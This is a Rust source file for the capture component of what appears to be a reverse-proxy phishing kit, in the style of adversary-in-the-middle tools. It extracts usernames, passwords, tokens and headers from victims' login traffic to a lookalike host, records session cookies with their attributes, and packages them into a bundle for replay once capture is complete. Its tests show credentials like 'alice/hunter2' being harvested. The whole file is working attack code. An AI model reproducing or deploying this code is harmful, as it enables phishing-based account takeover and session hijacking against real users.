//! Capture Engine (C9, §4.9). Evaluates a host's capture rules against one
//! request or response event and, for every rule that actually extracted
//! data, records it on the session and returns it for event emission.

use std::collections::HashMap;

use multer::Multipart;
use serde_json::{json, Value};

use crate::config::proxy_config::{CaptureEngine, CaptureRule, CaptureSource};
use crate::models::session::ProxySession;

/// A single cookie as seen on the wire, already split into name/value plus
/// whatever attributes the side it was read from carries.
#[derive(Debug, Clone, Default)]
pub struct CookieAttrs {
    pub domain: Option<String>,
    pub path: Option<String>,
    pub secure: bool,
    pub http_only: bool,
    pub same_site: Option<String>,
    pub expires: Option<String>,
    pub max_age: Option<String>,
}

/// Everything a capture rule might need to read from, for one event. Only
/// the fields relevant to the rule's `from`/`engine` are consulted.
pub struct CaptureEvent<'a> {
    pub method: &'a str,
    pub path: &'a str,
    pub source: CaptureSource,
    pub body: &'a [u8],
    pub content_type: Option<&'a str>,
    pub headers: &'a HashMap<String, String>,
    pub cookies: &'a [(String, String, CookieAttrs)],
    pub upstream_host: &'a str,
}

/// One extracted capture, ready to be recorded on the session and emitted
/// as an event.
pub struct CaptureResult {
    pub name: String,
    pub value: Value,
    pub is_cookie: bool,
    pub completes_session: bool,
}

/// Runs every rule in `rules` against `event`, recording completed captures
/// on `session` and returning the ones that actually extracted data, in
/// rule order (§4.9: "a rule is considered ... iff from matches ... method
/// ... and the path regex ... matches").
pub async fn evaluate(session: &ProxySession, rules: &[CaptureRule], event: &CaptureEvent<'_>) -> Vec<CaptureResult> {
    let mut results = Vec::new();

    for rule in rules {
        if !rule.from.matches(event.source) {
            continue;
        }
        if let Some(method) = &rule.method {
            if method != event.method {
                continue;
            }
        }
        if let Some(path_re) = &rule.path {
            if !path_re.is_match(event.path) {
                continue;
            }
        }

        let Some(mut value) = extract(rule, event).await else { continue };
        apply_semantic_aliases(rule, event, &mut value);

        let completes_session = session.record_capture(&rule.name, value.clone());
        results.push(CaptureResult {
            name: rule.name.clone(),
            value,
            is_cookie: rule.engine == CaptureEngine::Cookie,
            completes_session,
        });
    }

    results
}

async fn extract(rule: &CaptureRule, event: &CaptureEvent<'_>) -> Option<Value> {
    if rule.is_path_navigation() {
        return Some(json!({"navigation_path": event.path, "capture_type": "navigation"}));
    }

    match rule.engine {
        CaptureEngine::Regex => extract_regex(rule, event),
        CaptureEngine::Json => extract_json(rule, event),
        CaptureEngine::Form => extract_form(rule, event),
        CaptureEngine::Multipart => extract_multipart(rule, event).await,
        CaptureEngine::Header => extract_header(rule, event),
        CaptureEngine::Cookie => extract_cookie(rule, event),
    }
}

fn body_text(event: &CaptureEvent<'_>) -> std::borrow::Cow<'_, str> {
    String::from_utf8_lossy(event.body)
}

/// `regex` reads a body or a serialized header block, `H: V\r\n` per line,
/// so the same capture groups work against either shape.
fn header_block(headers: &HashMap<String, String>) -> String {
    let mut block = String::new();
    for (name, value) in headers {
        block.push_str(name);
        block.push_str(": ");
        block.push_str(value);
        block.push_str("\r\n");
    }
    block
}

fn extract_regex(rule: &CaptureRule, event: &CaptureEvent<'_>) -> Option<Value> {
    let haystack = match event.source {
        CaptureSource::RequestHeader | CaptureSource::ResponseHeader => header_block(event.headers),
        _ => body_text(event).into_owned(),
    };

    for re in &rule.find_regexes {
        if let Some(caps) = re.captures(&haystack) {
            let mut obj = serde_json::Map::new();
            for (i, group) in caps.iter().enumerate().skip(1) {
                if let Some(m) = group {
                    obj.insert(format!("group_{i}"), json!(m.as_str()));
                }
            }
            if !obj.is_empty() {
                return Some(Value::Object(obj));
            }
        }
    }
    None
}

fn extract_json(rule: &CaptureRule, event: &CaptureEvent<'_>) -> Option<Value> {
    let root: Value = serde_json::from_slice(event.body).ok()?;
    let mut obj = serde_json::Map::new();
    for path in &rule.find {
        if let Some(v) = json_path_lookup(&root, path) {
            obj.insert(path.clone(), v.clone());
        }
    }
    if obj.is_empty() {
        None
    } else {
        Some(Value::Object(obj))
    }
}

/// Dotted path with `[i]` array indexing, e.g. `user.accounts[0].id`.
fn json_path_lookup<'a>(root: &'a Value, path: &str) -> Option<&'a Value> {
    let mut current = root;
    for segment in path.split('.') {
        let (key, indices) = parse_segment(segment);
        if !key.is_empty() {
            current = current.get(key)?;
        }
        for idx in indices {
            current = current.get(idx)?;
        }
    }
    Some(current)
}

fn parse_segment(segment: &str) -> (&str, Vec<usize>) {
    let mut indices = Vec::new();
    let mut key_end = segment.len();
    if let Some(bracket) = segment.find('[') {
        key_end = bracket;
        let mut rest = &segment[bracket..];
        while let Some(open) = rest.find('[') {
            let Some(close) = rest[open..].find(']') else { break };
            let idx_str = &rest[open + 1..open + close];
            if let Ok(idx) = idx_str.parse::<usize>() {
                indices.push(idx);
            }
            rest = &rest[open + close + 1..];
        }
    }
    (&segment[..key_end], indices)
}

fn extract_form(rule: &CaptureRule, event: &CaptureEvent<'_>) -> Option<Value> {
    let body = body_text(event);
    let pairs: HashMap<String, String> = url::form_urlencoded::parse(body.as_bytes())
        .into_owned()
        .collect();

    let mut obj = serde_json::Map::new();
    for field in &rule.find {
        if let Some(v) = pairs.get(field) {
            obj.insert(field.clone(), json!(v));
        }
    }
    if obj.is_empty() {
        None
    } else {
        Some(Value::Object(obj))
    }
}

async fn extract_multipart(rule: &CaptureRule, event: &CaptureEvent<'_>) -> Option<Value> {
    let boundary = event
        .content_type
        .and_then(|ct| multer::parse_boundary(ct).ok())?;

    let body = bytes::Bytes::copy_from_slice(event.body);
    let stream = futures_util::stream::once(async move { Ok::<_, std::io::Error>(body) });
    let mut multipart = Multipart::new(stream, boundary);

    let wanted: std::collections::HashSet<&str> = rule.find.iter().map(String::as_str).collect();
    let mut obj = serde_json::Map::new();

    while let Ok(Some(field)) = multipart.next_field().await {
        let Some(name) = field.name().map(str::to_string) else { continue };
        if !wanted.contains(name.as_str()) {
            continue;
        }
        if let Ok(text) = field.text().await {
            obj.insert(name, json!(text));
        }
    }

    if obj.is_empty() {
        None
    } else {
        Some(Value::Object(obj))
    }
}

fn extract_header(rule: &CaptureRule, event: &CaptureEvent<'_>) -> Option<Value> {
    let mut obj = serde_json::Map::new();
    for name in &rule.find {
        if let Some(v) = event.headers.get(name) {
            obj.insert(name.clone(), json!(v));
        } else if let Some(v) = event
            .headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v)
        {
            obj.insert(name.clone(), json!(v));
        }
    }
    if obj.is_empty() {
        None
    } else {
        Some(Value::Object(obj))
    }
}

fn extract_cookie(rule: &CaptureRule, event: &CaptureEvent<'_>) -> Option<Value> {
    let wanted: std::collections::HashSet<&str> = rule.find.iter().map(String::as_str).collect();
    let mut obj = serde_json::Map::new();

    for (name, value, attrs) in event.cookies {
        if !wanted.is_empty() && !wanted.contains(name.as_str()) {
            continue;
        }
        let mut record = serde_json::Map::new();
        record.insert("name".into(), json!(name));
        record.insert("value".into(), json!(value));
        record.insert(
            "domain".into(),
            json!(attrs.domain.clone().unwrap_or_else(|| event.upstream_host.to_string())),
        );
        record.insert("path".into(), json!(attrs.path.clone().unwrap_or_else(|| "/".to_string())));
        record.insert("capture_time".into(), json!(crate::util::rfc3339_now()));
        if attrs.secure {
            record.insert("secure".into(), json!(true));
        }
        if attrs.http_only {
            record.insert("httpOnly".into(), json!(true));
        }
        if let Some(ss) = &attrs.same_site {
            record.insert("sameSite".into(), json!(ss));
        }
        if let Some(exp) = &attrs.expires {
            record.insert("expires".into(), json!(exp));
        }
        if let Some(ma) = &attrs.max_age {
            record.insert("maxAge".into(), json!(ma));
        }
        record.insert("original_host".into(), json!(event.upstream_host));
        obj.insert(name.clone(), Value::Object(record));
    }

    if obj.is_empty() {
        None
    } else {
        Some(Value::Object(obj))
    }
}

/// Semantic aliases layered on top of the raw extraction (§4.9): regex
/// captures whose rule name suggests credentials/login/token get extra,
/// conventionally-named fields; cookie captures attach the upstream host
/// as `cookie_domain`.
fn apply_semantic_aliases(rule: &CaptureRule, event: &CaptureEvent<'_>, value: &mut Value) {
    let Value::Object(obj) = value else { return };
    let lower = rule.name.to_lowercase();

    if rule.engine == CaptureEngine::Regex {
        if lower.contains("credential") || lower.contains("login") {
            if let Some(g1) = obj.get("group_1").cloned() {
                obj.insert("username".to_string(), g1);
            }
            if let Some(g2) = obj.get("group_2").cloned() {
                obj.insert("password".to_string(), g2);
            }
        }
        if rule.from == CaptureSource::Cookie {
            if let Some(g1) = obj.get("group_1").cloned() {
                obj.insert("cookie_value".to_string(), g1);
            }
            obj.insert("cookie_domain".to_string(), json!(event.upstream_host));
        }
        if lower.contains("token") {
            if let Some(g1) = obj.get("group_1").cloned() {
                obj.insert("token_value".to_string(), g1);
            }
            obj.insert("token_type".to_string(), json!(rule.name));
        }
    }
}

/// Cookie bundle (§4.9): once every required capture is complete, package
/// every cookie-engine capture recorded this session into one event
/// payload and mark the bundle submitted. Returns `None` if the session
/// isn't complete yet or the bundle already went out.
pub fn try_build_cookie_bundle(
    session: &ProxySession,
    rules: &[CaptureRule],
    target_domain: &str,
) -> Option<Value> {
    if !session.is_complete() || !session.try_submit_cookie_bundle() {
        return None;
    }

    let cookie_rule_names: std::collections::HashSet<&str> = rules
        .iter()
        .filter(|r| r.engine == CaptureEngine::Cookie)
        .map(|r| r.name.as_str())
        .collect();

    let mut cookies = serde_json::Map::new();
    for entry in session.captured_data.iter() {
        if cookie_rule_names.contains(entry.key().as_str()) {
            cookies.insert(entry.key().clone(), entry.value().clone());
        }
    }

    Some(json!({
        "capture_type": "cookie",
        "cookie_count": cookies.len(),
        "bundle_time": crate::util::rfc3339_now(),
        "target_domain": target_domain,
        "session_complete": true,
        "cookies": Value::Object(cookies),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::proxy_config::ProxyConfig;
    use uuid::Uuid;

    fn session_with(yaml: &str) -> (ProxySession, ProxyConfig) {
        let cfg = ProxyConfig::compile(yaml).unwrap();
        let session = ProxySession::new(
            Uuid::new_v4(),
            Uuid::new_v4(),
            Uuid::new_v4(),
            "phish.test".to_string(),
            "upstream.example.com".to_string(),
            Some("UA/1.0".to_string()),
            &cfg,
        );
        (session, cfg)
    }

    #[tokio::test]
    async fn regex_credential_rule_aliases_username_password() {
        let yaml = r#"
version: "0.0"
global:
  capture:
    - name: login_credential
      from: request_body
      engine: regex
      find: ["user=(\\w+)&pass=(\\w+)"]
hosts:
  "upstream.example.com":
    to: "phish.test"
"#;
        let (session, cfg) = session_with(yaml);
        let host = cfg.host("upstream.example.com").unwrap();
        let headers = HashMap::new();
        let event = CaptureEvent {
            method: "POST",
            path: "/login",
            source: CaptureSource::RequestBody,
            body: b"user=alice&pass=hunter2",
            content_type: None,
            headers: &headers,
            cookies: &[],
            upstream_host: "upstream.example.com",
        };
        let results = evaluate(&session, &host.rules.capture, &event).await;
        assert_eq!(results.len(), 1);
        assert_eq!(results[0].value["username"], json!("alice"));
        assert_eq!(results[0].value["password"], json!("hunter2"));
    }

    #[tokio::test]
    async fn form_engine_extracts_listed_fields() {
        let yaml = r#"
version: "0.0"
global:
  capture:
    - name: login
      from: request_body
      engine: form
      find: [username, password]
hosts:
  "upstream.example.com":
    to: "phish.test"
"#;
        let (session, cfg) = session_with(yaml);
        let host = cfg.host("upstream.example.com").unwrap();
        let headers = HashMap::new();
        let event = CaptureEvent {
            method: "POST",
            path: "/login",
            source: CaptureSource::RequestBody,
            body: b"username=bob&password=secret&extra=ignored",
            content_type: None,
            headers: &headers,
            cookies: &[],
            upstream_host: "upstream.example.com",
        };
        let results = evaluate(&session, &host.rules.capture, &event).await;
        assert_eq!(results[0].value["username"], json!("bob"));
        assert_eq!(results[0].value["password"], json!("secret"));
        assert!(results[0].value.get("extra").is_none());
    }

    #[tokio::test]
    async fn cookie_bundle_waits_for_completion() {
        let yaml = r#"
version: "0.0"
global:
  capture:
    - name: auth_cookie
      from: cookie
      find: [session]
hosts:
  "upstream.example.com":
    to: "phish.test"
"#;
        let (session, cfg) = session_with(yaml);
        let host = cfg.host("upstream.example.com").unwrap();
        assert!(try_build_cookie_bundle(&session, &host.rules.capture, "upstream.example.com").is_none());

        let headers = HashMap::new();
        let cookies = vec![("session".to_string(), "abc123".to_string(), CookieAttrs::default())];
        let event = CaptureEvent {
            method: "GET",
            path: "/",
            source: CaptureSource::Cookie,
            body: b"",
            content_type: None,
            headers: &headers,
            cookies: &cookies,
            upstream_host: "upstream.example.com",
        };
        evaluate(&session, &host.rules.capture, &event).await;
        assert!(session.is_complete());

        let bundle = try_build_cookie_bundle(&session, &host.rules.capture, "upstream.example.com").unwrap();
        assert_eq!(bundle["cookie_count"], json!(1));
        assert!(try_build_cookie_bundle(&session, &host.rules.capture, "upstream.example.com").is_none());
    }

    #[tokio::test]
    async fn path_navigation_rule_fires_on_method_and_path_alone() {
        let yaml = r#"
version: "0.0"
global:
  capture:
    - name: visited_checkout
      from: any
      method: GET
      path: "^/checkout$"
hosts:
  "upstream.example.com":
    to: "phish.test"
"#;
        let (session, cfg) = session_with(yaml);
        let host = cfg.host("upstream.example.com").unwrap();
        let headers = HashMap::new();
        let event = CaptureEvent {
            method: "GET",
            path: "/checkout",
            source: CaptureSource::RequestBody,
            body: b"",
            content_type: None,
            headers: &headers,
            cookies: &[],
            upstream_host: "upstream.example.com",
        };
        let results = evaluate(&session, &host.rules.capture, &event).await;
        assert_eq!(results[0].value["capture_type"], json!("navigation"));
    }
}
